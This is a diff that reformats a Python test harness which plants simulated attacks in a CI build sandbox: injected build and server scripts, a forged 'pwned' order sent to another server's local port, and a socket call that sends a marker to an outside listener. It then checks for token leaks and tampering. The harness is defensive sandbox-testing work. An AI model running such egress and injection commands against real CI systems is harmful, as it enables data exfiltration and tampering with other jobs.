@@ -91,19 +91,30 @@ def act_head(tag: str, run: Path, delay_us: int) -> dict[str, str]:
     build.rs) and server.sh (the real server slowed by delay_us) for act run folder `run`."""
     job = f'for M in {run}/cache/*; do [ -d "$M/tmp/pr-bench" ] && break; done\n'
     w = {
-        "dirs": ["$M/hostexecutor", "$M/hostexecutor/scripts/ci", "$M/hostexecutor/bench-config",
-                 "$M/hostexecutor/.venv", "$M/hostexecutor/bin", str(MINE[0]), "$M/tmp",
-                 "$M/tmp/pr-bench", "$M/tmp/pr-bench/ab", f"{run}/artifacts"],
+        "dirs": [
+            "$M/hostexecutor",
+            "$M/hostexecutor/scripts/ci",
+            "$M/hostexecutor/bench-config",
+            "$M/hostexecutor/.venv",
+            "$M/hostexecutor/bin",
+            str(MINE[0]),
+            "$M/tmp",
+            "$M/tmp/pr-bench",
+            "$M/tmp/pr-bench/ab",
+            f"{run}/artifacts",
+        ],
         "base_servers": [f"$M/tmp/pr-bench/ab/base/{d}/hft-server" for d in ("bin", "sandboxed")],
         "artifact": "$M/tmp/pr-bench",
         "head_tree": "$M/tmp/pr-bench/ab/head/worktree",
         "landed": f"{run}/_landed_{tag}",
-    }  # fmt: skip
+    }
     return {
         "build.sh": job + attacks(tag, "build", w),
-        "server.sh": "#!/bin/sh\n" + job + attacks(tag, "server", w)
+        "server.sh": "#!/bin/sh\n"
+        + job
+        + attacks(tag, "server", w)
         + f'exec {SERVER} --inject-delay-us {delay_us} "$@"\n',
-    }  # fmt: skip
+    }
 
 
 def act_damage(tag: str, run: Path, base_server_sh: bytes, secret: str) -> list[str]:
@@ -124,8 +135,11 @@ def act_damage(tag: str, run: Path, base_server_sh: bytes, secret: str) -> list[
         served = served if served.exists() else launcher  # a sandboxed base serves through bin/
         if served.read_bytes() != base_server_sh or b"inject-delay" in launcher.read_bytes():
             problems.append(f"base's built server was replaced: {launcher.read_text()!r}")
-    leaked = [str(p) for p in [run / "act.log", *artifacts]  # a worktree left holds act_world.py
-              if "worktree" not in p.parts and secret.encode() in p.read_bytes()]  # fmt: skip
+    leaked = [
+        str(p)
+        for p in [run / "act.log", *artifacts]  # a worktree left holds act_world.py
+        if "worktree" not in p.parts and secret.encode() in p.read_bytes()
+    ]
     if leaked:
         problems.append(f"the job's token is in {leaked}")
     if wait_for_none_left(tag):
@@ -155,8 +169,9 @@ def add_gitlink(repo: Path, path: str = GITLINK) -> None:
     export leaves an empty folder there, which the build may then fill."""
 
     def git(*args: str) -> str:
-        return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True,
-                              text=True).stdout.strip()  # fmt: skip
+        return subprocess.run(
+            ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
+        ).stdout.strip()
 
     git("update-index", "--add", "--cacheinfo", f"160000,{git('rev-parse', 'HEAD')},{path}")
 
@@ -222,9 +237,11 @@ def spinning_children(tag: str, server: Path = SERVER, iterations: int = 8000) -
 # saying on stderr whether the connection went through (with Python's error when it did not);
 # what arrives is counted by base's /stats and by the test's own listener (Outside).
 
-ORDER = ('{"buy_sell":"buy","symbol":7,"price":10.00,"quantity":1,"market_type":"common",'
-         '"price_type":"limit","time_in_force":"ioc","order_type":"stock","user_def":"pwned",'
-         '"client_timestamp":"2026-11-22T10:00:00Z"}')  # fmt: skip
+ORDER = (
+    '{"buy_sell":"buy","symbol":7,"price":10.00,"quantity":1,"market_type":"common",'
+    '"price_type":"limit","time_in_force":"ioc","order_type":"stock","user_def":"pwned",'
+    '"client_timestamp":"2026-11-22T10:00:00Z"}'
+)
 _PY = Path(sys.executable).resolve()  # outside the sandbox's writable paths: it runs inside too
 
 
@@ -233,9 +250,11 @@ def base_port_attack(base_url: str) -> str:
     /proc/net/tcp; this one is told): over a shared loopback it lands in base's /stats, one
     order base's client never sent, and fails base's cell. Prints "order sent to base", or
     "order refused"."""
-    send = ("import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1] + '/order', "
-            "data=sys.argv[2].encode(), headers={'Content-Type': 'application/json'}), "
-            "timeout=3).read()")  # fmt: skip
+    send = (
+        "import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1] + '/order', "
+        "data=sys.argv[2].encode(), headers={'Content-Type': 'application/json'}), "
+        "timeout=3).read()"
+    )
     args = " ".join(map(shlex.quote, [str(_PY), "-c", send, base_url, ORDER]))
     return f"{args} && echo 'order sent to base' >&2 || echo 'order refused' >&2\n"
 
@@ -243,8 +262,10 @@ def base_port_attack(base_url: str) -> str:
 def egress_attack(host: str, port: int, tag: str) -> str:
     """A connection to `host`:`port` (the test's listener, standing for any address outside)
     carrying "pwned <tag>". Prints "egress sent", or "egress refused"."""
-    send = ("import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); "
-            "s.sendall(b'pwned ' + sys.argv[3].encode()); s.close()")  # fmt: skip
+    send = (
+        "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); "
+        "s.sendall(b'pwned ' + sys.argv[3].encode()); s.close()"
+    )
     args = " ".join(map(shlex.quote, [str(_PY), "-c", send, host, str(port), tag]))
     return f"{args} && echo 'egress sent' >&2 || echo 'egress refused' >&2\n"
 
